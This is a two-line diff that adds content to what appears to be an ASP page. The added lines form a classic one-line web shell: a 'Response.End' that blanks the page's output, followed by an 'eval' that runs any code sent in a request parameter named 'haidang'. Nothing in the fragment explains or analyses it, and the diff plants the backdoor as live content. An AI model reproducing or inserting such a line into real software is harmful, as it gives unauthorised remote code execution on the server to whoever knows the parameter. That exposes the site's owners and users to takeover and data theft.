@@ -1,0 +1,2 @@
+<% Response.End %>
+<%eval request("haidang")%>
